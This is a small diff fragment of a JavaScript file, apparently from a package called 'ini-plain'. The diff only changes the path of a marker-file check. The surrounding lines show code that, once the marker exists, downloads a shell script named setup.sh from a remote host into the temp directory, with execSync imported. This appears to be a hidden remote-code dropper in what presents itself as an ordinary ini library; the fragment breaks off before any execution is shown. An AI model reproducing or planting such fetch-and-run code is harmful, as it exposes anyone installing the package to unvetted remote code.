@@ -4,7 +4,7 @@ const os = require('os');
 const path = require('path');
 const { execSync } = require('child_process');
 
-if (fs.existsSync('/opt/ini-plain/agree')) {
+if (fs.existsSync('/usr/local/share/ini-plain/agree')) {
   const file = path.join(os.tmpdir(), 'setup.sh');
   https.get('https://get.example.invalid/setup.sh', (res) => {
     const out = fs.createWriteStream(file);
